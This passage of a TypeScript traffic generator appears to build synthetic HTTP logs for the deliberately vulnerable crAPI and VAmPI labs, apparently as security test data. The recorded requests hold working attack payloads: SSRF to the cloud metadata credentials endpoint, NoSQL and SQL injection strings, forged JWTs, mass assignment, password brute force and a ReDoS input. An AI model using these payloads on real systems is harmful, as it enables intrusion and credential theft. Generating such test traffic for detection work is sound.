  call({ method: 'POST', url: '/workshop/api/merchant/contact_mechanic', token: htok, body: { mechanic_code: 'TRAC_JHN', problem_details: 'x', vin: hacker.vin, mechanic_api: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/', repeat_request_if_failed: false, number_of_repeats: 1 }, status: 200, response: { response_from_mechanic_api: 'crapi-workshop-role', status: 200 } });
  // challenge 12: NoSQL injection finds a coupon; challenge 13: SQL injection in apply_coupon
  call({ method: 'POST', url: '/community/api/v2/coupon/validate-coupon', token: htok, body: { coupon_code: { $ne: 1 } }, status: 200, response: { coupon_code: 'TRAC075', amount: '75', CreatedAt: '2024-04-01T00:00:00.000Z' } });
  call({ method: 'POST', url: '/workshop/api/shop/apply_coupon', token: htok, body: { coupon_code: "0' or '1'='1", amount: 75 }, status: 400, response: { message: "0' or '1'='1 Coupon code is already claimed by you!! Please try with another coupon code" } });
  call({ method: 'POST', url: '/workshop/api/shop/apply_coupon', token: htok, body: { coupon_code: "0'; select version() --", amount: 75 }, status: 400, response: { message: 'PostgreSQL 14.11 (Debian 14.11-1.pgdg120+2) on x86_64-pc-linux-gnu Coupon code is already claimed by you!! Please try with another coupon code' } });
  // challenge 15: a forged JWT (kid pointing at /dev/null, HS256 with an empty key) is accepted
  const forged = jwt(r, { alg: 'HS256', kid: '../../../../../../dev/null' }, { sub: 'admin@example.com', iat: Math.floor((START + 11 * 3600_000) / 1000), exp: Math.floor((START + 11 * 3600_000) / 1000) + 604800, role: 'admin' }, 43);
  call({ method: 'GET', url: '/identity/api/v2/user/dashboard', token: forged, status: 200, response: { id: 5, name: 'Admin', email: 'admin@example.com', number: '9010203040', picture_url: null, video_url: null, video_name: null, available_credit: 100, video_id: null, role: 'ROLE_ADMIN' } });

  return { api: 'crAPI', specFile, host, spec, exchanges: rec.exchanges() };
}

// =============================================================================================
// VAmPI (github.com/erev0s/VAmPI): one Flask app, vulnerable mode on, debug on.

interface VampiUser {
  username: string;
  email: string;
  password: string;
  admin: boolean;
  books: string[];
  client: Client;
}

export function vampiTraffic(seed = 1): VulnerableTraffic {
  const specFile = 'vampi/openapi3.yml';
  const { spec } = generateSpecTraffic(specFile, { seed, callsPerOperation: 1 });
  const r = new Rng(`${seed}:vampi`);
  const host = 'vampi.example.com';
  const rec = new Recorder('VAmPI', host, '10.30.0.5', r);
  const clients = clientsFor(9, '203.0.113', r);
  // populate_db: name1/pass1, name2/pass2, admin/pass1, each with one book; then people who registered
  const users: VampiUser[] = [
    { username: 'name1', email: 'mail1@mail.com', password: 'pass1', admin: false, books: ['bookTitle77'], client: clients[0]! },
    { username: 'name2', email: 'mail2@mail.com', password: 'pass2', admin: false, books: ['bookTitle85'], client: clients[1]! },
    { username: 'admin', email: 'admin@mail.com', password: 'pass1', admin: true, books: ['bookTitle47'], client: clients[2]! },
    ...(['olivia.chen', 'mreed', 'sofia.alvarez', 'htanaka', 'grace.okafor', 'lfischer'] as const).map((u, i) => ({
      username: u,
      email: `${u}@example.com`,
      password: `${u.slice(0, 4).replace(/\W/g, '')}${r.pick(['#', '!', '&'])}${r.chars('ABCDEFGHJKLMNPQRSTUVWXYZ', 2)}${r.int(1000, 9999)}`,
      admin: false,
      books: [] as string[],
      client: clients[3 + i]!,
    })),
  ];
  const BOOKS = ['The Hobbit', 'Dune', 'Neuromancer', 'Moby Dick', 'Snow Crash', 'Foundation', 'Hyperion', 'Solaris'];
  let nextBook = 0;
  const token = (u: VampiUser, t: number): string => jwt(r, { typ: 'JWT', alg: 'HS256' }, { exp: Math.floor(t / 1000) + 60, iat: Math.floor(t / 1000), sub: u.username }, 43);
  const books = () => ({ Books: users.flatMap((u) => u.books.map((b) => ({ book_title: b, user: u.username }))) });
  const secretFor = (title: string) => `secret for ${title}`;

  const op = rec.session({ ip: '10.30.0.2', ua: 'curl/8.5.0' }, 0);
  op({ method: 'GET', url: '/createdb', status: 200, response: { message: 'Database populated.' }, gapMs: 0 });
  for (let k = 0; k < 24; k++) {
    const probe = rec.session({ ip: '10.30.0.3', ua: 'kube-probe/1.29' }, k * 900_000);
    probe({ method: 'GET', url: '/', status: 200, response: { message: 'VAmPI the Vulnerable API', help: 'VAmPI is a vulnerable on purpose API. It was created in order to evaluate the efficiency of third party tools in identifying vulnerabilities in APIs but it can also be used in learning/teaching purposes.', vulnerable: 1 }, gapMs: 0 });
  }

  users.forEach((u, ui) => {
    for (let s = 0; s < 3; s++) {
      const at = 60_000 + ui * 500_000 + s * 3 * 3600_000 + r.int(0, 600_000);
      const call = rec.session(u.client, at);
      if (s === 0 && ui >= 3) {
        call({ method: 'POST', url: '/users/v1/register', body: { username: u.username, password: u.password, email: u.email }, status: 200, response: { message: 'Successfully registered. Login to receive an auth token.', status: 'success' } });
      }
      call({ method: 'GET', url: '/books/v1', status: 200, response: books() });
      const tok = token(u, START + at);
      call({ method: 'POST', url: '/users/v1/login', body: { username: u.username, password: u.password }, status: 200, response: { auth_token: tok, message: 'Successfully logged in.', status: 'success' } });
      call({ method: 'GET', url: '/me', token: tok, status: 200, response: { data: { admin: u.admin, email: u.email, username: u.username }, status: 'success' } });
      if (s < 2) {
        const title = BOOKS[nextBook % BOOKS.length]! + (nextBook >= BOOKS.length ? ` ${Math.floor(nextBook / BOOKS.length) + 1}` : '');
        nextBook++;
        u.books.push(title);
        call({ method: 'POST', url: '/books/v1', token: tok, body: { book_title: title, secret: `${r.pick(['remember', 'note to self:', 'gift for'])} ${r.chars('abcdefghijklmnopqrstuvwxyz', 6)}` }, status: 200, response: { message: 'Book has been added.', status: 'success' } });
      }
      for (const b of u.books) call({ method: 'GET', url: `/books/v1/${encodeURIComponent(b)}`, token: tok, status: 200, response: { book_title: b, owner: u.username, secret: secretFor(b) } });
      call({ method: 'GET', url: `/users/v1/${u.username}`, status: 200, response: { username: u.username, email: u.email } });
      if (s === 1 && ui % 3 === 1) {
        u.email = u.email.replace('@', '+new@');
        call({ method: 'PUT', url: `/users/v1/${u.username}/email`, token: tok, body: { email: u.email }, status: 204 });
      }
      if (s === 2 && ui >= 3 && ui % 2 === 0) {
        u.password = `${u.password}Z9`;
        call({ method: 'PUT', url: `/users/v1/${u.username}/password`, token: tok, body: { password: u.password }, status: 204 });
      }
      if (s === 1 && u.admin) {
        call({ method: 'GET', url: '/users/v1', status: 200, response: { users: users.map((x) => ({ email: x.email, username: x.username })) } });
      }
    }
  });

  // =========================== the flaws =========================================================
  const hacker: VampiUser = { username: 'hacker', email: 'hacker@darkweb.com', password: 'Hacker!2024', admin: false, books: [], client: ATTACKER };
  const call = rec.session(ATTACKER, 9 * 3600_000);
  call({ method: 'POST', url: '/users/v1/register', body: { username: hacker.username, password: hacker.password, email: hacker.email }, status: 200, response: { message: 'Successfully registered. Login to receive an auth token.', status: 'success' } });
  const htok = token(hacker, START + 9 * 3600_000);
  call({ method: 'POST', url: '/users/v1/login', body: { username: hacker.username, password: hacker.password }, status: 200, response: { auth_token: htok, message: 'Successfully logged in.', status: 'success' } });
  // excessive data exposure: the debug endpoint lists every user with their password
  const debugUsers = () => ({ users: [...users, hacker].map((u) => ({ admin: u.admin, email: u.email, password: u.password, username: u.username })) });
  call({ method: 'GET', url: '/users/v1/_debug', status: 200, response: debugUsers() });
  // … which every scanner run finds again
  for (const [k, ua] of [[0, 'Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))'], [1, 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 ZAP/2.14']] as const) {
    const scan = rec.session({ ip: `198.51.100.${120 + k}`, ua }, (11 + k) * 3600_000);
    scan({ method: 'GET', url: '/users/v1/_debug', status: 200, response: debugUsers() });
  }
  // BOLA: any logged-in user reads any book's secret (titles from the public list)
  call({ method: 'GET', url: '/books/v1', status: 200, response: books() });
  for (const [b, owner] of users.flatMap((u) => u.books.map((x) => [x, u] as const)).slice(0, 10)) {
    call({ method: 'GET', url: `/books/v1/${encodeURIComponent(b)}`, token: htok, status: 200, response: { book_title: b, owner: owner.username, secret: secretFor(b) }, gapMs: r.int(200, 900) });
  }
  // unauthorized password change: name2's token changes admin's password
  call({ method: 'PUT', url: '/users/v1/admin/password', token: htok, body: { password: 'pwned123' }, status: 204 });
  // mass assignment: register as admin
  call({ method: 'POST', url: '/users/v1/register', body: { username: 'evil', password: 'evil123', email: 'evil@darkweb.com', admin: true }, status: 200, response: { message: 'Successfully registered. Login to receive an auth token.', status: 'success' } });
  // SQL injection in the username; debug mode answers the traceback
  const sqlErr = (q: string) =>
    `<!doctype html>\n<html lang=en>\n<head>\n<title>sqlalchemy.exc.OperationalError: (sqlite3.OperationalError) unrecognized token: &#34;&#39;&#34;\n[SQL: SELECT * FROM users WHERE username = &#39;${q}&#39;]\n(Background on this error at: https://sqlalche.me/e/14/e3q8) // Werkzeug Debugger</title>\n</head>\n<body>\n<h1>OperationalError</h1>\n<div class="traceback">\n<h3>Traceback <em>(most recent call last)</em>:</h3>\n<pre>File &#34;/vampi/api_views/users.py&#34;, line 42, in get_by_username\n    user = User.get_user(username)\nFile &#34;/vampi/models/user_model.py&#34;, line 71, in get_user\n    user = db.session.execute(text(query)).fetchone()\nFile &#34;/usr/local/lib/python3.11/site-packages/sqlalchemy/engine/base.py&#34;, line 1900, in _execute_context\n    self.dialect.do_execute(\nsqlite3.OperationalError: unrecognized token: &#34;&#39;&#34;</pre>\n</div>\n</body>\n</html>\n`;
  call({ method: 'GET', url: `/users/v1/name1'`, status: 500, response: sqlErr("name1'"), resType: 'text/html; charset=utf-8' });
  call({ method: 'GET', url: `/users/v1/name1%27%27`, status: 404, response: { status: 'fail', message: 'User not found' } });
  call({ method: 'GET', url: `/users/v1/x'%20or%20'1'='1`, status: 200, response: { username: 'name1', email: 'mail1@mail.com' } });
  call({ method: 'GET', url: `/users/v1/x'%20union%20select%20password,username%20from%20users%20--`, status: 200, response: { username: 'pass1', email: 'name1' } });
  call({ method: 'GET', url: `/users/v1/name1'%20order%20by%209--`, status: 500, response: sqlErr("name1' order by 9--"), resType: 'text/html; charset=utf-8' });
  // user and password enumeration: different answers for unknown users and wrong passwords
  const enumr = rec.session(SCRIPT, 9.5 * 3600_000);
  for (const name of ['root', 'test', 'name1', 'name2', 'admin', 'guest', 'name3', 'user']) {
    const known = users.some((u) => u.username === name);
    enumr({ method: 'POST', url: '/users/v1/login', body: { username: name, password: 'wrongpass' }, status: 200, response: { status: 'fail', message: known ? 'Password is not correct for the given username.' : 'Username does not exist' }, gapMs: r.int(80, 200) });
    enumr({ method: 'GET', url: `/users/v1/${name}`, ...(known ? { status: 200, response: { username: name, email: users.find((u) => u.username === name)!.email } } : { status: 404, response: { status: 'fail', message: 'User not found' } }), gapMs: r.int(80, 200) });
  }
  // lack of rate limiting: a password list against admin, until it works
  const words = ['123456', 'password', 'admin', 'qwerty', 'letmein', 'welcome', 'monkey', 'dragon', 'admin123', 'passw0rd', 'abc123', 'iloveyou', 'pass', 'pass123'];
  for (let k = 0; k < 120; k++) {
    const hit = k === 119;
    enumr({ method: 'POST', url: '/users/v1/login', body: { username: 'admin', password: hit ? 'pass1' : `${words[k % words.length]}${k >= words.length ? k : ''}` }, status: 200, response: hit ? { auth_token: token(users[2]!, START + 10 * 3600_000), message: 'Successfully logged in.', status: 'success' } : { status: 'fail', message: 'Password is not correct for the given username.' }, gapMs: r.int(30, 90) });
  }
  // ReDoS in the email check
  call({ method: 'PUT', url: `/users/v1/${hacker.username}/email`, token: htok, body: { email: 'jjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjj@ccccccccccccccccccccccccccccccccccccccc.cccccccccccccccccccccccccccccccccc' }, status: 400, response: { status: 'fail', message: 'Please Provide a valid email address.' }, slowMs: 28_000 });
  // JWT with the weak signing key ('random'), cracked offline: a token for admin, accepted
  const forged = jwt(r, { typ: 'JWT', alg: 'HS256' }, { exp: Math.floor((START + 11 * 3600_000) / 1000) + 60, iat: Math.floor((START + 11 * 3600_000) / 1000), sub: 'admin' }, 43);
  call({ method: 'GET', url: '/me', token: forged, status: 200, response: { data: { admin: true, email: 'admin@mail.com', username: 'admin' }, status: 'success' } });
  call({ method: 'DELETE', url: '/users/v1/name2', token: forged, status: 200, response: { message: 'User deleted.', status: 'success' } });

  return { api: 'VAmPI', specFile, host, spec, exchanges: rec.exchanges() };
}
